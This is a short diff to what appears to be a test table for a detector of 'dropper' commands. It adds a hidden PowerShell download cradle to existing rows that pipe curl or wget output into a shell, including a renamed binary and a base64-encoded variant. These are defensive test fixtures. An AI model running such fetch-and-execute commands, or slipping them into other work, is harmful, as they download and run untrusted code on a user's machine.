@@ -6,6 +6,7 @@ it.each([
   ['curl -s http://192.0.2.7/a.sh | bash', ['dropper.fetched']],
   ['wget -q http://example.org/x -O /tmp/x; chmod +x /tmp/x; /tmp/x', ['dropper.fetched']],
   ['/usr/bin/cdz -fsSL http://example.org/b.sh | sh', ['dropper.fetched', 'dropper.renamed']],
+  ["powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://example.org/a')", ['dropper.cradle']],
   ['bash -c "$(curl -fsSL http://example.org/i)"', ['dropper.fetched']],
   ['echo Y3VybCBodHRwOi8vMTkyLjAuMi43L2F8c2g= | base64 -d | sh', ['dropper.fetched', 'dropper.coded']],
 ])('is told by %s', (line, codes) => {
